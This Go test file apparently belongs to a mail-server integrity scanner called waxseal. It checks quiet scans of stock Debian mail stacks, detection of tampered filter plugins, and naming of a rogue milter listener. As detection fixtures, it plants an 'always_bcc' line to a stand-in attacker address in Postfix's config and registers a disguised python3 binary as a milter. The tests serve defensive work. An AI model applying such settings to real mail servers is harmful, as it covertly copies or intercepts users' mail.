package cli_test

import (
	"bytes"
	"cmp"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	vocabulary "waxseal"
	"waxseal/internal/agent"
	"waxseal/internal/cli"
	"waxseal/internal/lab"
	"waxseal/internal/mailpath"
	"waxseal/internal/mask"
	"waxseal/internal/rootfs"
)

// stock returns the root of a Debian with Postfix, Dovecot, rspamd, OpenDKIM and
// SpamAssassin just as their packages set them up.
func stock(tb testing.TB) string { return lab.Root(tb, lab.Stock) }

// stockFlavours are the servers that are just as their packages set them up.
var stockFlavours = []lab.Flavour{lab.Stock, lab.Exim, lab.Sendmail, lab.OpenSMTPD, lab.Filters}

// TestStockDebianIsQuiet: what packages set up by themselves is nothing to look
// at first.
func TestStockDebianIsQuiet(t *testing.T) {
	for _, flavour := range stockFlavours {
		t.Run(string(flavour), func(t *testing.T) { quiet(t, lab.Root(t, flavour)) })
	}
}

func quiet(t *testing.T, root string) {
	t.Helper()
	var out, errs bytes.Buffer
	if code := cli.Run(t.Context(), []string{"scan", "--root", root, "--format", "json", "--fail-on", "medium"}, &out, &errs, "test"); code != 0 {
		t.Errorf("exit code %d: %s", code, errs.String())
	}
	var scan cli.Scan
	if err := json.Unmarshal(out.Bytes(), &scan); err != nil {
		t.Fatal(err)
	}
	if len(scan.Stacks) == 0 || len(scan.Hooks) == 0 {
		t.Fatalf("found %d mail systems and %d hooks", len(scan.Stacks), len(scan.Hooks))
	}
	for _, f := range scan.Findings {
		if f.Severity >= vocabulary.Medium {
			t.Errorf("%s %s: %s", f.Severity, f.Title, strings.Join(f.Reasons, "; "))
		}
	}
	for _, p := range scan.Problems {
		t.Errorf("%s:%d: %s", p.Path, p.Line, p.Message)
	}
}

// TestFiltersCode: what filters load by name is part of the mail path, wherever their
// packages put it, and what lies beside it too.
func TestFiltersCode(t *testing.T) {
	root := stock(t)
	masker := agent.ThrowAwayMasker()
	before := readStock(t, root, masker)
	edited := []string{
		"/usr/share/rspamd/plugins/maillist.lua", "/usr/share/perl5/Mail/SpamAssassin/Plugin/SPF.pm", "/usr/share/spamassassin/50_scores.cf", "/usr/share/perl5/Mail/DKIM/Verifier.pm",
		"/usr/lib/dovecot/modules/lib10_quota_plugin.so",
	}
	for _, name := range edited {
		appendTo(t, filepath.Join(root, name), "\n# edited\n")
	}
	const strange = "/usr/share/perl5/Mail/SpamAssassin/Plugin/Own.pm"
	if err := os.WriteFile(filepath.Join(root, strange), []byte("1;\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	told := map[string]vocabulary.Severity{}
	for _, ch := range agent.Differences(before, readStock(t, root, masker)) {
		told[string(ch.Path)] = ch.Severity
	}
	for _, name := range append(edited, strange) {
		if told[name] < vocabulary.High {
			t.Errorf("%s: %s", name, told[name])
		}
	}
	if len(told) != len(edited)+1 {
		t.Errorf("told %v", told)
	}
}

func readStock(t *testing.T, root string, m *mask.Masker) vocabulary.State {
	t.Helper()
	tree, err := rootfs.Open(root)
	if err != nil {
		t.Fatal(err)
	}
	defer tree.Close()
	return mailpath.NewReader(m).Read(tree)
}

// BenchmarkOthers measures scan of servers with Exim, Sendmail and OpenSMTPD as their
// packages set them up. Each is a whole process.
func BenchmarkOthers(b *testing.B) {
	bin := program(b)
	for _, flavour := range []lab.Flavour{lab.Exim, lab.Sendmail, lab.OpenSMTPD} {
		root := lab.Root(b, flavour)
		_, size := mailSet(b, root)
		b.Run(string(flavour), func(b *testing.B) {
			process(b, size, bin, "scan", "--root", root, "--format", "json", "--fail-on", "critical")
		})
	}
}

// BenchmarkStock measures scan and diff of such a server, digests of all
// closures included, and beside it AIDE, which compares SHA-256 alone of the same
// files. Each is a whole process; what was read before is in the page cache.
func BenchmarkStock(b *testing.B) {
	root := stock(b)
	bin := program(b)
	files, size := mailSet(b, root)
	aideInit(b, root, files)
	b.Logf("%d files, %d MB", len(files), size>>20)
	b.Run("scan", func(b *testing.B) {
		process(b, size, bin, "scan", "--root", root, "--format", "json", "--fail-on", "critical")
	})
	b.Run("aide", func(b *testing.B) { process(b, size, "chroot", root, "aide", "--check", "--config=/tmp/aide.conf") })
	b.Run("sha256sum", func(b *testing.B) {
		process(b, size, "chroot", append([]string{root, "sha256sum"}, files...)...)
	})
	after := stock(b)
	appendTo(b, filepath.Join(after, "etc/postfix/main.cf"), "always_bcc = drop@evil.example.net\n")
	b.Run("diff", func(b *testing.B) {
		process(b, 2*size, bin, "diff", root, after, "--format", "json", "--fail-on", "critical")
	})
}

// mailSet lists the regular files that a scan digests.
func mailSet(b *testing.B, root string) (files []string, size int64) {
	b.Helper()
	tree, err := rootfs.Open(root)
	if err != nil {
		b.Fatal(err)
	}
	defer tree.Close()
	for _, f := range mailpath.NewReader(agent.ThrowAwayMasker()).Read(tree).Files {
		if f.Type == vocabulary.Regular && !f.Missing && f.Digest != "" {
			files = append(files, string(cmp.Or(f.Resolved, f.Path)))
			size += f.Size
		}
	}
	slices.Sort(files)
	return slices.Compact(files), size
}

// aideInit writes AIDE's database of the files.
func aideInit(b *testing.B, root string, files []string) {
	b.Helper()
	var conf strings.Builder
	conf.WriteString("database_in=file:/tmp/aide.db\ndatabase_out=file:/tmp/aide.db\nreport_url=stdout\n")
	for _, f := range files {
		fmt.Fprintf(&conf, "%s$ f sha256\n", strings.ReplaceAll(regexp.QuoteMeta(f), " ", `\x20`))
	}
	if err := os.WriteFile(filepath.Join(root, "tmp/aide.conf"), []byte(conf.String()), 0o600); err != nil {
		b.Fatal(err)
	}
	if out, err := exec.Command("chroot", root, "aide", "--init", "--config=/tmp/aide.conf").CombinedOutput(); err != nil {
		b.Fatalf("aide --init: %v: %s", err, out)
	}
}

func appendTo(tb testing.TB, name, text string) {
	tb.Helper()
	f, err := os.OpenFile(name, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(text); err != nil {
		tb.Fatal(err)
	}
}

// TestScanNamesTheListener: on a live host, who answers at a milter's address is
// named, whatever the address suggests.
func TestScanNamesTheListener(t *testing.T) {
	l := lab.Fresh(t)
	if out, err := exec.Command("go", "build", "-trimpath", "-o", filepath.Join(l.Root, "tmp/waxseal"), "waxseal/cmd/waxseal").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	const listen = `import socket, time; s = socket.socket(); s.bind(("127.0.0.1", 8891)); s.listen(); time.sleep(120)`
	script := "postconf -e smtpd_milters=inet:127.0.0.1:8891 && cp /usr/bin/python3 /usr/local/bin/milterd && (setsid /usr/local/bin/milterd -c '" + listen + "' >/dev/null 2>&1 &) && sleep 1"
	if out, err := l.Exec(t.Context(), "/bin/sh", "-c", script); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	out, err := l.Exec(t.Context(), "/tmp/waxseal", "scan", "--format", "json", "--fail-on", "critical")
	var scan cli.Scan
	if json.Unmarshal([]byte(out), &scan) != nil {
		t.Fatalf("%v: %.500s", err, out)
	}
	for _, h := range scan.Hooks {
		if h.Directive != "smtpd_milters" {
			continue
		}
		if h.Listener == nil || h.Listener.Exe != "/usr/local/bin/milterd" || h.Listener.PackageState != vocabulary.PackageUnowned || h.Listener.PID == 0 {
			t.Errorf("listener %+v", h.Listener)
		}
	}
	if f := scan.Findings[0]; f.Severity < vocabulary.High || !strings.Contains(strings.Join(f.Reasons, " "), "/usr/local/bin/milterd answers there") {
		t.Errorf("%s %s: %q", f.Severity, f.Title, f.Reasons)
	}
}
